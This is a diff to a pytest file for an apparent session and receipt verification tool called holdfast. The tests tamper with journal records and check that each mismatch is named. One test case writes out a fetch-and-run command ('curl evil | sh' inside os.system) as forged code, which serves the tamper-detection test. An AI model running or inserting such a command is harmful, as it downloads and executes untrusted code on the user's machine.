@@ -1,14 +1,17 @@
 """Sessions with a real store, real keys and real files; then one thing is made wrong, and must be named."""
 
+import errno
 import hashlib
 import json
 import os
+import re
 import shutil
 import sqlite3
 import subprocess
 from collections.abc import Callable, Iterator
 from contextlib import closing
 from pathlib import Path
+from typing import Any
 
 import msgspec
 import pytest
@@ -16,9 +19,9 @@ import pytest
 from holdfast import ckpt, evidence, manifest, paths, receipts, verify
 from holdfast.cli.export import export, write_export
 from holdfast.cli.verify import check_session
-from holdfast.errors import HoldfastError, InvalidSetting, SessionUnknown, VerifyFailed
+from holdfast.errors import DiskFull, HoldfastError, InvalidSetting, SessionUnknown, VerifyFailed
 from holdfast.evidence import from_directory, from_home
-from holdfast.records import Change, Executed, FileEntry, Planned, RunCard, Saved, Settled, Verified
+from holdfast.records import AnyRecord, Change, Executed, FileEntry, Input, Planned, RunCard, Saved, Settled, Verified
 from holdfast.signing import SigningKey
 from holdfast.statements import RunFacts, statement
 from holdfast.store.rows import (
@@ -38,6 +41,8 @@ from holdfast.store.sqlite import Store
 from holdfast.verify import Report
 
 SESSION = "3f9a01bc77"
+CODE = "total = sum(sales)"
+CODE_SHA256 = hashlib.sha256(CODE.encode()).hexdigest()
 
 
 class Author:
@@ -96,11 +101,16 @@ class Author:
         """Two receipts of one run."""
         run = f"run_{self.row.receipts + 1}"
         changes = self._stage({name: content}, ())
-        self._write(run, None, saved=True)
+        base = self.row.ckpt
+        self._write(run, None, saved=[self.files[paths.to_text(name)]])
         self._publish({name: content}, ())
-        facts = msgspec.structs.replace(self._facts(run, self.row.version + 1, changes), kind="savepoint")
+        facts = self._facts(run, self.row.version + 1, changes)
+        facts = msgspec.structs.replace(facts, kind="savepoint", saved=["step 1"])
         self._put(facts, statement(facts))
-        facts = msgspec.structs.replace(self._facts(run, self.row.version, []), status="rolled_back", reason="no")
+        facts = msgspec.structs.replace(
+            self._facts(run, self.row.version, []), status="rolled_back", reason="no", saved=["step 1"],
+            ckpt_before=base,
+        )  # fmt: skip
         self._settle(facts, statement(facts))
 
     def lose_memory(self) -> None:
@@ -133,17 +143,17 @@ class Author:
             session=SESSION, run=run, number=self.row.receipts + 1, previous=self.row.head, kind="cell",
             status="committed", version_before=self.row.version, version=version, generation=self.row.generation,
             ckpt_before=self.row.ckpt, ckpt=self.ckpt(version), manifest_sha256=manifest.digest(self.files),
-            goal="test", code_sha256="00" * 32, started_at=1.0, finished_at=2.0, changes=changes,
+            goal="test", code_sha256=CODE_SHA256, started_at=1.0, finished_at=2.0, changes=changes, duration_s=1.0,
         )  # fmt: skip
 
-    def _write(self, run: str, verified: Verified | None, *, saved: bool = False) -> None:
-        card = RunCard(run=run, session=SESSION, goal="test", code_sha256="00" * 32, base=self.row.ckpt)
+    def _write(self, run: str, verified: Verified | None, *, saved: list[FileEntry] | None = None) -> None:
+        card = RunCard(run=run, session=SESSION, goal="test", code_sha256=CODE_SHA256, base=self.row.ckpt)
         records = [
-            Planned(run=run, at=1.0, card=card, code=""),
+            Planned(run=run, at=1.0, card=card, code=CODE),
             Executed(run=run, at=2.0, error_code=None, duration_s=1.0),
         ]
         if saved:
-            records.insert(1, Saved(run=run, at=1.5, files=[]))
+            records.insert(1, Saved(run=run, at=1.5, files=saved))
         if verified:
             records.append(verified)
         self.store.write([Append(session=SESSION, record=record) for record in records])
@@ -172,8 +182,9 @@ class Author:
     def _settle(self, facts: RunFacts, body: bytes) -> None:
         digest = self._put(facts, body)
         settled = Settled(
-            run=facts.run, at=4.0, status=facts.status, version=facts.version, ckpt=facts.ckpt, receipt_sha256=digest
-        )
+            run=facts.run, at=4.0, status=facts.status, version=facts.version, ckpt=facts.ckpt, receipt_sha256=digest,
+            reason=facts.reason,
+        )  # fmt: skip
         self.store.write([Append(session=SESSION, record=settled)])
 
 
@@ -408,6 +419,97 @@ def test_one_flipped_bit_in_the_journals_copy_is_named(told: Author) -> None:
         assert _check(told).problem == "receipt 1: the journal's copy of it differs"
 
 
+R = msgspec.structs.replace
+
+
+def _rewrite(author: Author, kind: type, change: Callable[[Any], Any], run: str = "run_1") -> None:
+    """One record of a run."""
+    with closing(sqlite3.connect(author.home / "journal.sqlite3")) as db, db:
+        for key, body in db.execute("select key, body from records").fetchall():
+            record = msgspec.msgpack.decode(body, type=AnyRecord)
+            if isinstance(record, kind) and record.run == run:
+                db.execute("update records set body = ? where key = ?", (msgspec.msgpack.encode(change(record)), key))
+
+
+OTHER_CKPT = f"CKPT-{SESSION}-g1-v1-ffffffffffff"
+
+
+@pytest.mark.parametrize(("kind", "change", "named"), [
+    (Planned, lambda r: R(r, code="import os; os.system('curl evil | sh')"), "another code"),
+    (Planned, lambda r: R(r, kind="command"), "another kind"),
+    (Planned, lambda r: R(r, at=9.0), "another begin"),
+    (Planned, lambda r: R(r, card=R(r.card, goal="nothing to see")), "another goal"),
+    (Planned, lambda r: R(r, card=R(r.card, key="other")), "another key"),
+    (Planned, lambda r: R(r, card=R(r.card, attempt=2)), "another attempt"),
+    (Planned, lambda r: R(r, card=R(r.card, inputs=[Input(path="x")])), "another list of inputs"),
+    (Planned, lambda r: R(r, card=R(r.card, environment="other")), "another environment"),
+    (Planned, lambda r: R(r, card=R(r.card, code_sha256="00" * 32)), "another digest of the code"),
+    (Planned, lambda r: R(r, card=R(r.card, base=OTHER_CKPT)), "another base"),
+    (Executed, lambda r: R(r, error_code="exception", error_message="boom"), "another error"),
+    (Executed, lambda r: R(r, duration_s=99.0), "another duration"),
+    (Executed, lambda r: R(r, exit_code=1), "another exit code"),
+    (Verified, lambda r: R(r, changes=[]), "other changes"),
+    (Settled, lambda r: R(r, ckpt=OTHER_CKPT), "another CKPT"),
+    (Settled, lambda r: R(r, reason="because"), "why it was rolled back"),
+    (Settled, lambda r: R(r, by="user"), "why it was rolled back"),
+    (Settled, lambda r: R(r, status="kept"), "ended kept"),
+    (Settled, lambda r: R(r, receipt_sha256="cd" * 32), "ended with receipt cdcd"),
+])  # fmt: skip
+def test_what_the_journal_says_otherwise_than_the_receipt_is_named(
+    told: Author, kind: type, change: Callable[[Any], Any], named: str
+) -> None:
+    _rewrite(told, kind, change)
+
+    report = _check(told)
+
+    assert re.search(f"^receipt 1: .*({named})", report.problem), report.problem
+
+
+@pytest.mark.parametrize(("kind", "change", "named"), [
+    (Settled, lambda r: R(r, reason="another"), "receipt 2: the journal has another reason"),
+    (Settled, lambda r: R(r, by="system"), "receipt 2: the journal has another culprit"),
+    (Executed, lambda r: R(r, error_code="timeout"), "receipt 2: the journal has another error"),
+])  # fmt: skip
+def test_what_the_journal_says_otherwise_of_a_run_that_was_rolled_back_is_named(
+    told: Author, kind: type, change: Callable[[Any], Any], named: str
+) -> None:
+    _rewrite(told, kind, change, run="run_2")
+
+    assert _check(told).problem == named
+
+
+@pytest.mark.parametrize(("kind", "change", "named"), [
+    (Saved, lambda r: R(r, step="load"), "receipt 6: the journal has another list of savepoints"),
+    (Saved, lambda r: R(r, files=[]), "receipt 6: the journal has other files that were saved"),
+    (Settled, lambda r: R(r, receipt_sha256="cd" * 32), "receipt 7: the journal has another kind"),
+])  # fmt: skip
+def test_what_the_journal_says_otherwise_of_savepoints_is_named(
+    told: Author, kind: type, change: Callable[[Any], Any], named: str
+) -> None:
+    told.save_and_roll_back(b"chunk-1", b"saved")
+
+    _rewrite(told, kind, change, run="run_6")
+
+    assert _check(told).problem == named
+
+
+@pytest.mark.parametrize("last", ["Settled", "Planned"])
+def test_a_run_that_no_receipt_knows_is_named(told: Author, last: str) -> None:
+    card = RunCard(run="run_x", session=SESSION, goal="approved by the auditors", code_sha256=CODE_SHA256, base="")
+    settled = Settled(run="run_x", at=4.0, status="committed", version=4, ckpt=OTHER_CKPT, receipt_sha256="cd" * 32)
+    for record in (Planned(run="run_x", at=3.0, card=card, code=CODE), settled):
+        told.store.write([Append(session=SESSION, record=record)])
+    _sql(told, "update runs set last = ? where id = 'run_x'", last)
+
+    assert _check(told).problem == "run run_x is in the journal, and in no receipt"
+
+
+def test_a_run_that_has_ended_and_is_listed_as_open_is_named(told: Author) -> None:
+    _sql(told, "update runs set last = 'Verified' where id = 'run_1'")
+
+    assert _check(told).problem == "run run_1 has ended, and the journal lists it as one that has not"
+
+
 def test_rows_that_are_not_what_the_receipts_say_are_named(told: Author) -> None:
     entry = msgspec.structs.replace(told.files["a.csv"], bytes=9)
     told.store.write([PutFiles(session=SESSION, put=[entry])])
@@ -541,6 +643,22 @@ def test_what_an_export_lacks_is_named(exported: Path, damage: Callable[[Path], 
 def test_an_export_goes_only_into_a_new_directory(told: Author, exported: Path) -> None:
     with pytest.raises(InvalidSetting, match="is not empty"):
         write_export(SESSION, exported, home=told.home)
+
+
+@pytest.mark.parametrize("full", ["holdfast.durable.os.write", "pathlib.Path.write_bytes"])
+@pytest.mark.parametrize(("number", "kind"), [(errno.ENOSPC, DiskFull), (errno.EACCES, InvalidSetting)])
+def test_an_export_that_cannot_be_written_leaves_nothing_in_the_way_of_the_next(
+    told: Author, tmp_path: Path, full: str, number: int, kind: type[HoldfastError]
+) -> None:
+    def refuse(*_: object) -> int:
+        raise OSError(number, os.strerror(number))
+
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(full, refuse)
+        with pytest.raises(kind):
+            write_export(SESSION, tmp_path / "out", home=told.home)
+
+    assert write_export(SESSION, tmp_path / "out", home=told.home).ok
 
 
 def test_a_session_that_is_not_right_is_not_exported(told: Author, tmp_path: Path) -> None:
